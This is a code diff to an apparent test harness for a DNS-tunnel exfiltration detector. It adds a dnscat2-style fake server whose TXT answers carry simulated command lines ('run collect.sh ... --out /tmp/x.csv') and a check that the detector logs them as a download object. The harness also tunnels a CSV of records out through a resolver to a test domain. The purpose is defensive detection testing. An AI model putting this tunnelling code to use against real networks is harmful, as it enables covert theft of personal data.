@@ -308,9 +308,16 @@ def txt_rdata(text):
     return out or b"\0"
 
 
+# what the dnscat2-style server sends its client, 60 bytes in each MSG answer (downstream)
+DNSCAT_DOWN = b"".join(b"%d: run collect.sh --ward %d --out /tmp/x%d.csv\n" % (i, i % 7, i)
+                       for i in range(24))  # fewer than the client sends MSGs
+
+
 class AuthServer(socketserver.BaseRequestHandler):
     """The tunnel domains' authoritative server: answers dnscat2 packets (SYN with its own
-    SYN, MSG with an ACK, FIN with FIN) hex-encoded in TXT, other names with TXT "ok"."""
+    SYN, MSG with an ACK and the next 60 bytes of DNSCAT_DOWN, FIN with FIN) hex-encoded in
+    TXT, other names with TXT "ok"."""
+    sent = 0
 
     def handle(self):
         msg, sock = self.request
@@ -325,10 +332,14 @@ class AuthServer(socketserver.BaseRequestHandler):
             pid, typ, sess = struct.unpack(">HBH", raw[:5])
             if typ == 0:      # SYN: answer with the server's SYN (isn 0x1000)
                 answer = struct.pack(">HBHHH", pid, 0, sess, 0x1000, 0).hex()
-            elif typ == 1:    # MSG: acknowledge the data
+            elif typ == 1:    # MSG: acknowledge the data, send the next piece
                 seq, _ack = struct.unpack(">HH", raw[5:9])
                 nxt = (seq + len(raw) - 9) & 0xffff
-                answer = struct.pack(">HBHHH", pid, 1, sess, 0x1000, nxt).hex()
+                at = AuthServer.sent
+                part = DNSCAT_DOWN[at:at + 60]
+                AuthServer.sent += len(part)
+                answer = (struct.pack(">HBHHH", pid, 1, sess, (0x1000 + at) & 0xffff, nxt) +
+                          part).hex()
             else:
                 answer = struct.pack(">HBH", pid, 2, sess).hex() + "00"
         rr = (b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(txt_rdata(answer))) +
@@ -455,9 +466,11 @@ def dns_rows(d, data, procs):
                 client="127.0.0.1", resolver=RESOLVER, individuals=20)
     code = "import sys; sys.path.insert(0, %r); import live_more as m; " % os.path.dirname(
         os.path.abspath(__file__))
+    down = dict(proto="dns-tunnel-down", domain=DNSCAT_DOMAIN, encoding="dnscat2",
+                size=len(DNSCAT_DOWN), sha256=hashlib.sha256(DNSCAT_DOWN).hexdigest())
     rows = [("dnscat2-style sender (hex packets, TXT) via dnsmasq",
              [PY, "-c", code + "m.dnscat2_send(open(%r, 'rb').read(), %r)" % (csv, DNSCAT_DOMAIN)],
-             dict(want, domain=DNSCAT_DOMAIN, encoding="dnscat2")),
+             dict(want, domain=DNSCAT_DOMAIN, encoding="dnscat2", down=down)),
             ("base32 label encoder via dnsmasq",
              [PY, "-c", code + "import base64; m.counter_send(open(%r, 'rb').read(), %r, lambda b: "
               "base64.b32encode(b).decode().rstrip('=').lower())" % (csv, B32_DOMAIN)],
@@ -616,6 +629,16 @@ def check_hl7(con, t, binary, case):
         t["messages"], t["msg_type"], t["individuals"])
 
 
+def check_dns_tunnel_down(con, t):
+    """The server's data in its TXT answers: a second object, direction download."""
+    d = t["down"]
+    obj = con.execute("SELECT encoding, size, direction, complete FROM object WHERE protocol = "
+                      "'dns-tunnel' AND sha256 = ? AND name = ?", (d["sha256"], d["domain"])
+                      ).fetchall()
+    want = [(d["encoding"], d["size"], "download", 1)]
+    return obj == want, "downstream object %s want %s" % (obj, want)
+
+
 def check_dns_tunnel(con, t, binary, case):
     obj = con.execute("SELECT name, encoding, size, direction, complete FROM object WHERE "
                       "protocol = 'dns-tunnel' AND sha256 = ? AND name = ?", (t["sha256"], t["domain"])
@@ -628,10 +651,12 @@ def check_dns_tunnel(con, t, binary, case):
     ind = con.execute("SELECT individuals, verdict FROM exfil_event WHERE destination = ?",
                       (t["domain"],)).fetchall()
     wind = [(t["individuals"], "confirmed")]
-    return obj == want and fok and ind == wind, "object %s want %s; finding %s; exfil_event %s " \
-        "want %s" % (obj, want, fnd, ind, wind), \
-        "dns_tunnel finding (client %s, resolver %s, %s), %s object identical, %d individuals" % (
-            t["client"], t["resolver"], t["domain"], t["encoding"], t["individuals"])
+    dok, ddetail = check_dns_tunnel_down(con, t) if "down" in t else (True, "")
+    return obj == want and fok and ind == wind and dok, "object %s want %s; finding %s; " \
+        "exfil_event %s want %s; %s" % (obj, want, fnd, ind, wind, ddetail), \
+        "dns_tunnel finding (client %s, resolver %s, %s), %s object identical, %d individuals%s" % (
+            t["client"], t["resolver"], t["domain"], t["encoding"], t["individuals"],
+            "; the answers' data a download object, identical" if "down" in t else "")
 
 
 def check_iodine(con, t, binary, case):
